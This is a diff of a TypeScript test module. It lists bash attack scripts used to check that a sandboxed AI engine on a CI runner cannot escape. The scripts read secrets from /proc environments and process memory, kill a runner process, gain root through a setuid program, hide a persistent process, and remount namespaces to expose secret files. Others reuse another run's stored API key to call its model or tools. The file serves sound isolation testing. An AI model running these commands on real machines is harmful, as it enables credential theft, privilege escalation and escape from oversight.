@@ -1,111 +1,38 @@
-/** Where an attack is made, as variables of its environment. */
-export interface Prey {
-  /** A folder that everybody may write to, as `/opt` on hosted runners. */
-  readonly OPEN: string;
-  /** The action's own post step, which runs after the engine. */
-  readonly POST: string;
-  readonly ENV_FILE: string;
-  /** In the home of the runner's user. */
-  readonly SECRET_FILE: string;
-  /** A program that runs as root, whoever starts it: what sudo is. */
-  readonly SETUID: string;
-  readonly SOCKETS: string;
-  /** The process that started the engine. */
-  readonly HOST: string;
-  /** Another process of the runner's user. */
-  readonly VICTIM: string;
-  readonly NODE: string;
-  /** Port of a server of the runner's. */
-  readonly SERVICE: string;
-  /** Port of what the engine may reach. */
-  readonly MODEL: string;
-  /** Unlike that of any other test. */
-  readonly NONCE: string;
-}
+import type { Attack } from './attack.ts';
+import { attacksOnFiles } from './attacks-on-files.ts';
+import { attacksOnProcesses } from './attacks-on-processes.ts';
 
-export interface Attack {
-  readonly title: string;
-  readonly script: string;
-  /** What it leaves on the machine; left out, it prints loot or ends the victim. */
-  readonly trace?: RegExp;
-  /** Only a wall that closes the network stops it. */
-  readonly isOfNetwork?: true;
-}
+/** Asks as the engine of another run would, by what is found among the files of that run. */
+const askAs = (what: 'tools' | 'models', body: string, headers: string): string => `"$NODE" -e '
+let found = {};
+try { found = JSON.parse(require("fs").readFileSync(process.env.OTHER_RUN + "/home/given.json", "utf8")); } catch {}
+const { url, key = "none" } = found.${what} ?? { url: process.env.OTHER_${what.toUpperCase()} };
+fetch(url, { method: "POST", headers: { "content-type": "application/json", ${headers} }, body: JSON.stringify(${body}) })
+  .then((answer) => answer.text()).then(console.log, () => {});
+'`;
 
 /**
  * What a hostile program does, in bash. An attack that has success prints `loot` and the nonce, or leaves a file whose name
- * or content has the nonce outside of its own folders, or ends the victim, or outlives the run.
+ * or content has the nonce outside of its own folders, or outlives the run, or does another harm that the host tells.
  */
 export const attacks: readonly Attack[] = [
+  ...attacksOnFiles,
+  ...attacksOnProcesses,
   {
-    title: 'writes to a folder of the system that is open to all',
-    trace: /\/written$/,
-    script: 'echo "$NONCE" > "$OPEN/written"',
+    title: 'calls the tools of another run on the same machine',
+    script: askAs(
+      'tools',
+      '{ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "get_project", arguments: {} } }',
+      'accept: "application/json, text/event-stream", authorization: "Bearer " + key',
+    ),
   },
   {
-    title: "changes the action's own post step",
-    trace: /\/post\.js$/,
-    script: 'echo "// $NONCE" >> "$POST"',
-  },
-  {
-    title: 'sets a variable for the steps that follow',
-    trace: /\/set_env$/,
-    script: 'echo "LD_PRELOAD=$NONCE" >> "$ENV_FILE"',
-  },
-  {
-    title: "adds a command file beside the runner's",
-    trace: /\/add_path_/,
-    script: 'echo "$NONCE" > "$(dirname "$ENV_FILE")/add_path_$NONCE"',
-  },
-  {
-    title: 'reads the environment of the process that started it',
-    script: "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep loot",
-  },
-  {
-    title: 'reads the memory of the process that started it',
-    script: [
-      'at=$(grep "\\[stack\\]" "/proc/$HOST/maps" | cut -d" " -f1)',
-      'from=$((0x${at%-*} / 4096)) to=$((0x${at#*-} / 4096))',
-      'dd if="/proc/$HOST/mem" bs=4096 skip=$from count=$((to - from)) status=none | grep -aom1 "loot $NONCE"',
-    ].join('; '),
-  },
-  {
-    title: 'reads the arguments of other processes',
-    script: "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep '^loot'",
-  },
-  {
-    title: 'ends a process of the runner',
-    script: 'kill -KILL "$VICTIM" && while grep -qs "^State:.[^ZX]" "/proc/$VICTIM/status"; do :; done',
-  },
-  {
-    title: 'becomes root by a program that runs as root',
-    script: '"$SETUID" | grep -q "euid=0" && echo "loot $NONCE"',
-  },
-  {
-    title: 'leaves a process behind that hides',
-    trace: /^process /,
-    script: [
-      'env -i setsid bash -c "exec -a outlives-$NONCE sleep infinity" </dev/null >/dev/null 2>&1 &',
-      'until grep -qs "^outlives-$NONCE" /proc/[0-9]*/cmdline; do :; done',
-    ].join('\n'),
-  },
-  {
-    title: "reads a file of the runner's user by a link in the checkout",
-    script: 'ln -s "$SECRET_FILE" link; cat link',
-  },
-  {
-    title: 'uncovers what is hidden in a namespace of its own',
-    script: [
-      "unshare --user --map-root-user --mount bash -c '",
-      'for place in "$(dirname "$SECRET_FILE")" /tmp /run; do umount -l "$place"; done 2>/dev/null',
-      'mount -o remount,bind,rw / 2>/dev/null',
-      'cat "$SECRET_FILE"; echo "$NONCE" > "$OPEN/remounted"\'',
-    ].join('\n'),
-  },
-  {
-    title: 'leaves files where the next run would find them',
-    trace: /\/left-/,
-    script: 'for place in /tmp /var/tmp /dev/shm; do echo "$NONCE" > "$place/left-$NONCE"; done',
+    title: 'asks the model of another run on the same machine',
+    script: askAs(
+      'models',
+      '{ model: "claude-opus-4-8", max_tokens: 8, messages: [{ role: "user", content: "Hello" }] }',
+      '"anthropic-version": "2023-06-01", "x-api-key": key',
+    ),
   },
   {
     title: 'talks to a service that listens on the machine',
